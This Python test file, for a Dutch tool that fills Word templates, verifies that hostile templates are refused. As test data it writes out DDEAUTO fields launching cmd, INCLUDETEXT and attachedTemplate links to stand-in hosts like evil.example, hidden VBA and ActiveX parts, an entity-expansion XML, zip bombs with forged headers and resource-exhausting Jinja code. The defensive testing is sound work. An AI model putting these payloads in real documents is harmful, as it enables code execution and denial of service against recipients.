"""Issue 16: a hostile or broken Word template. Each one is built here from the built-in template, and
`opp sjabloon` and `opp genereer` must both refuse it with exit 78 and a Dutch message naming the part,
before any OPP is written: one template check for every command. Rendering itself is bounded too, for
a template that never went through the check."""

from __future__ import annotations

import os
import re
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.cli import main
from generator.domain.errors import TemplateError
from generator.form.renderer import CompiledTemplate
from generator.form.template_check import check_template, ensure_usable
from generator.form.template_tags import sample_context

from .conftest import LEERLING_KOPPEN, TEMPLATE, leerling, make_workbook

DOCUMENT, DOCUMENT_RELS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
HEADER = "word/header1.xml"
Change = Callable[[bytes], bytes] | bytes | None  # new content of a part; None: leave the part out


def _build(path: Path, change: dict[str, Change] | None = None, extra: dict[str, bytes] | None = None,
           rename: dict[str, str] | None = None) -> Path:
    """The built-in template with parts rewritten (`change`), renamed or added (`extra`)."""
    change, rename = change or {}, rename or {}
    with zipfile.ZipFile(TEMPLATE) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            new = change.get(name, lambda data: data)
            data = new(src.read(name)) if callable(new) else new
            if data is not None:
                dst.writestr(rename.get(name, name), data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return path


def _paragraph(text: str) -> Callable[[bytes], bytes]:
    """document.xml with one paragraph more, before the section properties at the end."""
    return _body(f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>')


def _body(xml: str) -> Callable[[bytes], bytes]:
    def add(data: bytes) -> bytes:
        at = data.rindex(b"<w:sectPr")
        return data[:at] + xml.encode() + data[at:]
    return add


def _relationship(xml: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Relationships>", xml.encode() + b"</Relationships>")


def _content_type(xml: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Types>", xml.encode() + b"</Types>")


def _field(code: str) -> str:
    """A complex field as Word writes it: begin, the code in instrText, separate, a result, end."""
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{code}'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


@pytest.fixture(scope="module")
def export(tmp_path_factory) -> Path:
    rows = [LEERLING_KOPPEN, leerling("1001", "Anna", "Jansen")]
    return make_workbook(tmp_path_factory.mktemp("export") / "export.xlsx", {"Leerlingen": rows})


def _genereer(template: Path, export: Path, output: Path, werkers: int = 1):
    return CliRunner().invoke(main, ["genereer", str(export), "--sjabloon", str(template), "--werkers",
                                     str(werkers), "--uitvoer", str(output), "--schooljaar", "2026-2027"])


def test_the_export_makes_an_opp_with_the_built_in_template(tmp_path, export):
    """The control for every test here: with a usable template this export gives one OPP."""
    result = _genereer(_build(tmp_path / "gewoon.docx"), export, tmp_path / "uit")
    assert result.exit_code == 0, result.output
    assert len(list((tmp_path / "uit").rglob("OPP_*.docx"))) == 1


def _refused_everywhere(template: Path, export: Path, tmp_path: Path, part: str, *words: str,
                        werkers: int = 1) -> None:
    """`opp sjabloon` and `opp genereer` both: exit 78, the part and `words` in the message, no OPP."""
    check = CliRunner().invoke(main, ["sjabloon", str(template)])
    output = tmp_path / "uit"
    run = _genereer(template, export, output, werkers)
    for result in (check, run):
        assert result.exit_code == 78, result.output
        assert part in result.output and "Traceback" not in result.output, result.output
        for word in words:
            assert word in result.output, result.output
    assert not list(output.rglob("*.docx")), "an OPP was written with a refused template"


# --- 1. Jinja that costs without bound ----------------------------------------------------------------

@pytest.mark.parametrize(("code", "words"), [
    ("{{ range(10**9) }}", ["aanroep van iets anders", "'**'"]),
    ("{% for i in range(10**9) %}x{% endfor %}", ["aanroep van iets anders"]),
    ("{{ 'x' * 50000000 }}", ["'*' maakt in een sjabloon"]),
    ("{% for a in doelen %}{% for b in doelen %}{% for c in doelen %}x{% endfor %}{% endfor %}{% endfor %}",
     ["meer dan 2 herhalingen"]),
    ("{% for c in 'xxxxxxxxxxxxxxxxxxxx' %}x{% endfor %}", ["alleen over een lijst uit de export"]),
    ("{% include 'word/styles.xml' %}", ["'include' is code in het sjabloon"]),
    ("{% import 'x' as y %}", ["'import' is code"]),
    ("{% extends 'x' %}", ["'extends' is code"]),
    ("{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}", ["'macro' is code"]),
    ("{{ leerling.naam|center(1000000000) }}", ["filter 'center' bestaat niet of mag niet"]),
    ("{{ '%0999999999d' % 1 }}", ["'%' maakt in een sjabloon"]),
])
def test_expensive_template_code_is_refused_by_the_check(tmp_path, export, code, words):
    template = _build(tmp_path / "duur.docx", {DOCUMENT: _paragraph(code)})
    _refused_everywhere(template, export, tmp_path, "hoofdtekst (document.xml)", *words)


@pytest.mark.parametrize("hidden", [
    '<w:p><w:pPr><w:pStyle w:val="{{ range(10**9)|list }}"/></w:pPr></w:p>',  # in an attribute
    "<w:p><w:del><w:r><w:delText>{% include 'x' %}</w:delText></w:r></w:del></w:p>",  # a tracked deletion
    "<!-- {% for i in range(10**9) %}{% endfor %} -->",  # a comment
    "<w:p><w:r><w:t>{</w:t></w:r><w:r><w:instrText>% for i in range(10**9) %</w:instrText></w:r>"
    "<w:r><w:t>}</w:t></w:r></w:p>",  # docxtpl would join '{' + instrText '% ... %' + '}' into a tag
])
def test_template_code_where_word_does_not_show_it_is_refused(tmp_path, export, hidden):
    template = _build(tmp_path / "verstopt.docx", {DOCUMENT: _body(hidden)})
    _refused_everywhere(template, export, tmp_path, "hoofdtekst (document.xml)",
                        "sjablooncode buiten de gewone tekst")


def _unchecked(tmp_path: Path, code: str) -> CompiledTemplate:
    """A template compiled without the check: the renderer's own limits are all that stands."""
    return CompiledTemplate(_build(tmp_path / "ongecontroleerd.docx", {DOCUMENT: _paragraph(code)}))


@pytest.mark.parametrize(("code", "message"), [
    ("{{ range(10**9) }}", "range() van meer dan"),
    ("{{ 'x' * 50000000 }}", "tekst of lijst van 50.000.000"),
    ("{{ 9 ** 999999 }}", "meer dan 4096 bits"),
    ("{% for a in 'x' * 1000 %}{% for b in 'x' * 1000 %}{% for c in 'x' * 1000 %}{% endfor %}{% endfor %}"
     "{% endfor %}", "meer dan 100.000 keer"),
    ("{% for a in 'x' * 1000000 %}{{ 'y' * 1000 }}{% endfor %}", "meer dan 20.000.000 tekens"),
    ("{{ lipsum(1000000) }}", "undefined"),
    ("{{ '%0999999999d' % 1 }}", "opmaken met %"),
    ("{{ 1 // 0 }}", "ZeroDivisionError"),
])
def test_rendering_is_bounded_whatever_the_template(tmp_path, code, message):
    template = _unchecked(tmp_path, code)
    started = time.monotonic()
    with pytest.raises(TemplateError, match=re.escape(message)) as info:
        template.render(sample_context())
    assert time.monotonic() - started < 20
    assert "document.xml" in str(info.value)


@pytest.mark.parametrize("code", [
    "{% include 'word/styles.xml' %}", "{% import 'x' as y %}", "{% extends 'x' %}", "{% set x = 1 %}",
    "{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}", "{% for x in doelen recursive %}{% endfor %}",
    "{% autoescape false %}{{ leerling.naam }}{% endautoescape %}",
])
def test_the_renderer_never_compiles_statements_other_than_if_and_for(tmp_path, code):
    with pytest.raises(TemplateError, match="is code in het sjabloon"):
        _unchecked(tmp_path, code)


# --- 2. a damaged template ----------------------------------------------------------------------------

@pytest.mark.parametrize("part", [DOCUMENT, DOCUMENT_RELS, "word/styles.xml", TYPES])
def test_a_part_that_is_no_xml_is_named_not_a_traceback(tmp_path, export, part):
    template = _build(tmp_path / "kapot.docx", {part: lambda data: data[: len(data) // 2]})
    _refused_everywhere(template, export, tmp_path, f"het sjabloon is beschadigd: {part} is geen geldige XML")


def test_a_part_with_entity_definitions_is_refused(tmp_path, export):
    laughs = (b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
              b'<t>&b;</t>')
    template = _build(tmp_path / "dtd.docx", {"word/webSettings.xml": laughs})
    _refused_everywhere(template, export, tmp_path,
                        "het sjabloon is beschadigd: word/webSettings.xml heeft een DOCTYPE")


# --- 3. fields that fetch or run something ------------------------------------------------------------

@pytest.mark.parametrize(("part", "xml", "words"), [
    (DOCUMENT, _field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\a.png" \\d '), ["veld INCLUDEPICTURE"]),
    (DOCUMENT, '<w:p><w:fldSimple w:instr=" includetext &quot;http://evil.example/x.docx&quot; ">'
               '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>', ["veld INCLUDETEXT"]),
    (DOCUMENT, _field(' DdeAuto "cmd" "/c calc" '), ["veld DDEAUTO", "start bij het openen"]),
    (DOCUMENT, _field(' DDE "Excel" "Blad1" '), ["veld DDE ", "start een ander programma"]),
    (DOCUMENT, _field(' LINK Excel.Sheet.12 "\\\\\\\\evil\\\\x.xlsx" "" \\a '), ["veld LINK"]),
    (DOCUMENT, _field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" '), ["veld HYPERLINK naar"]),
    (DOCUMENT, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/>'
               '</w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar '
               'w:fldCharType="end"/></w:r><w:r><w:instrText> "cmd" </w:instrText></w:r><w:r><w:fldChar '
               'w:fldCharType="end"/></w:r></w:p>', ["door een ander veld wordt gemaakt"]),
    (HEADER, _field(" INCLUDETEXT http://evil.example/x "), ["koptekst (header1.xml)", "INCLUDETEXT"]),
])
def test_fields_that_fetch_or_run_something_are_refused(tmp_path, export, part, xml, words):
    def add_to_header(data: bytes) -> bytes:
        return data.replace(b"</w:hdr>", xml.encode() + b"</w:hdr>")
    template = _build(tmp_path / "veld.docx", {part: _body(xml) if part == DOCUMENT else add_to_header})
    where = "hoofdtekst (document.xml)" if part == DOCUMENT else words[0]
    _refused_everywhere(template, export, tmp_path, where, *words)


def test_the_renderer_compiles_no_part_with_such_a_field_and_checks_fields_that_rendering_changed(tmp_path):
    include = _build(tmp_path / "include.docx", {DOCUMENT: _body(_field(" INCLUDETEXT http://evil.x/ "))})
    with pytest.raises(TemplateError, match="veld INCLUDETEXT"):
        CompiledTemplate(include)
    repeated = _build(tmp_path / "herhaald.docx", {DOCUMENT: _body(
        "<w:p><w:r><w:t>{% for d in doelen %}</w:t></w:r></w:p>" + _field(" PAGE ")
        + "<w:p><w:r><w:t>{% endfor %}</w:t></w:r></w:p>")})
    ensure_usable(repeated)
    context = sample_context()
    context["doelen"] = context["doelen"] * 2
    xml = CompiledTemplate(repeated).render_parts(context)[DOCUMENT]
    assert xml.count(b"> PAGE <") == 2


def test_update_fields_on_opening_is_refused_with_two_workers_too(tmp_path, export):
    settings_xml = "word/settings.xml"
    template = _build(tmp_path / "bijwerken.docx", {settings_xml: lambda data: data.replace(
        b"<w:doNotAutoCompressPictures/>", b'<w:updateFields w:val="true"/><w:doNotAutoCompressPictures/>')})
    _refused_everywhere(template, export, tmp_path, "word/settings.xml", "w:updateFields", werkers=2)


# --- 4. references outside the document, in any letter case ------------------------------------------

def test_an_attached_template_in_an_upper_case_relationship_part_is_refused(tmp_path, export):
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="file://evil/share/t.dotm" TargetMode="EXTERNAL"/></Relationships>')
    template = _build(tmp_path / "rels.docx", extra={"word/_rels/settings.xml.RELS": rels})
    _refused_everywhere(template, export, tmp_path, "relaties (word/_rels/settings.xml.RELS)",
                        "soort 'attachedTemplate' naar 'file://evil/share/t.dotm'")


_IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


@pytest.mark.parametrize("relationship", [
    f'<Relationship Id="rIdX" Type="{_IMAGE}" Target="\\\\evil\\share\\a.png" TargetMode="external"/>',
    f'<Relationship Id="rIdX" Type="{_IMAGE}" Target="http://evil.example/a.png"/>',  # no TargetMode, but
    # an absolute target all the same
])
def test_an_external_relationship_in_a_renamed_document_relationship_part_is_refused(tmp_path, export,
                                                                                      relationship):
    renamed = "word/_rels/document.xml.RELS"
    template = _build(tmp_path / "rels.docx", {DOCUMENT_RELS: _relationship(relationship)},
                      rename={DOCUMENT_RELS: renamed})
    _refused_everywhere(template, export, tmp_path, f"relaties ({renamed})",
                        "externe verwijzing van soort 'image'")


# --- 5. macros and ActiveX under other names ----------------------------------------------------------

@pytest.mark.parametrize(("change", "extra"), [
    ({DOCUMENT_RELS: _relationship('<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/'
                                   'relationships/VBAPROJECT" Target="onschuldig.dat"/>')},
     {"word/onschuldig.dat": b"macro"}),
    ({TYPES: _content_type('<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>')},
     {"word/onschuldig.dat": b"macro"}),
    ({TYPES: lambda data: data.replace(b"wordprocessingml.document.main+xml",
                                       b"ms-word.document.MACROENABLED.main+xml")}, {}),
    ({TYPES: _content_type('<Override PartName="/word/knop/k1.xml" '
                           'ContentType="application/vnd.ms-office.activeX+xml"/>'),
      DOCUMENT_RELS: _relationship('<Relationship Id="rIdK" Type="http://schemas.openxmlformats.org/'
                                   'officeDocument/2006/relationships/control" Target="knop/k1.xml"/>')},
     {"word/knop/k1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
                          b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'}),
])
def test_macros_and_activex_are_known_by_relationship_and_content_type_not_by_name(tmp_path, export, change,
                                                                                    extra):
    template = _build(tmp_path / "macro.docx", change, extra)
    _refused_everywhere(template, export, tmp_path, "het document: bevat macro's of ActiveX-elementen")


# --- 6. zip bombs and oversized templates: the same limits for every command -------------------------

def _lying_member(path: Path, unpacked_mib: int, declared: int) -> Path:
    """The template plus a member of `unpacked_mib` MiB of zeros (packed to a few hundred kB) whose
    headers say it is `declared` bytes: zipfile's read() would inflate it up to 2 GB before it stops."""
    name = "word/media/bom.bin"
    _build(path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w") as fh:
        for _ in range(unpacked_mib):
            fh.write(bytes(2**20))
    with zipfile.ZipFile(path) as zf:
        local = zf.getinfo(name).header_offset
    data = bytearray(path.read_bytes())
    central = data.rindex(name.encode()) - 46  # the last entry of the central directory
    assert data[local:local + 4] == b"PK\x03\x04" and data[central:central + 4] == b"PK\x01\x02"
    data[local + 22:local + 26] = declared.to_bytes(4, "little")
    data[central + 24:central + 28] = declared.to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize(("build", "words"), [
    (lambda p: _build(p, extra={f"word/media/m{i}.bin": bytes(2**20) for i in range(150)}),
     ["meer dan 20 MB"]),
    (lambda p: _build(p, extra={f"word/media/m{i}.bin": b"" for i in range(600)}), ["meer dan 500"]),
    (lambda p: _build(p, extra={"word/media/nul.bin": bytes(10 * 2**20)}), ["keer zo groot uit (zipbom?)"]),
    (lambda p: _build(p, extra={"WORD/Styles.xml": b"<x/>"}), ["twee keer"]),
    (lambda p: _lying_member(p, 256, 4096), ["onderdeel word/media/bom.bin is niet te lezen of pakt anders"]),
])
def test_zip_bombs_and_oversized_templates_are_refused_by_every_command(tmp_path, export, build, words):
    template = build(tmp_path / "bom.docx")
    tracemalloc.start()
    try:
        check_template(template)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 100 * 2**20, f"the check unpacked {peak // 2**20} MB"
    _refused_everywhere(template, export, tmp_path, "het document", *words)


def test_a_body_of_megabytes_is_refused_before_docxtpl_spends_seconds_per_megabyte_on_it(tmp_path, export):
    template = _build(tmp_path / "groot.docx", {DOCUMENT: _paragraph(os.urandom(2_200_000).hex())})
    _refused_everywhere(template, export, tmp_path, "hoofdtekst (document.xml): is groter dan 4 MB")


# --- the check never fails with anything but its own verdict -----------------------------------------

_FRAGMENTS = ["{{", "}}", "{%", "%}", "{#", "#}", "{{ leerling.naam }}", "{% for d in doelen %}",
              "{% endfor %}", "{% if x %}", "{%tr endfor %}", "{{r veld('leerling.klas') }}", "'", '"', "(",
              ")" * 3, "|", "~",
              "{{ 9" + "9" * 5000 + " }}", "{{ " + "(" * 2000 + " }}", "<w:p>", "</w:t>", "<", "&", "&amp;",
              "\u2019", "\xa0", "é"]


_CHARACTERS = st.characters(blacklist_categories=("Cs", "Cc", "Cn"))  # what XML text may hold


@st.composite
def _mutated_template(draw, tmp_path: Path) -> Path:
    with zipfile.ZipFile(TEMPLATE) as zf:
        xml = zf.read(DOCUMENT).decode()
    for _ in range(draw(st.integers(1, 4))):
        fragment = draw(st.sampled_from(_FRAGMENTS) | st.text(_CHARACTERS, max_size=20))
        if draw(st.integers(0, 9)):  # into the text of a paragraph, escaped: the tag checks see it
            texts = [m.end() for m in re.finditer(r"<w:t(?: [^>]*)?>", xml)]
            at = texts[draw(st.integers(0, len(texts) - 1))]
            fragment = fragment.replace("&", "&amp;").replace("<", "&lt;")
        else:  # anywhere in the XML
            at = draw(st.integers(0, len(xml)))
        xml = xml[:at] + fragment + xml[at:]
    if draw(st.integers(0, 9)) == 0:
        xml = xml[: draw(st.integers(0, len(xml)))]
    names = st.text(_CHARACTERS, min_size=1, max_size=30)
    rename = {}
    if draw(st.booleans()):
        with zipfile.ZipFile(TEMPLATE) as zf:
            old = draw(st.sampled_from(zf.namelist()))
        rename[old] = draw(names | st.just(old.upper()) | st.just(old.lower()))
    extra = {draw(names): draw(st.binary(max_size=50))} if draw(st.booleans()) else {}
    path = tmp_path / f"t{draw(st.integers(0, 10**9))}.docx"
    return _build(path, {DOCUMENT: xml.encode()}, extra, rename)


@pytest.mark.filterwarnings("ignore:Duplicate name")
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(data=st.data())
def test_any_mutation_of_the_template_is_either_usable_or_a_template_error(tmp_path, data):
    path = data.draw(_mutated_template(tmp_path))
    try:
        ensure_usable(path)
    except TemplateError:
        pass
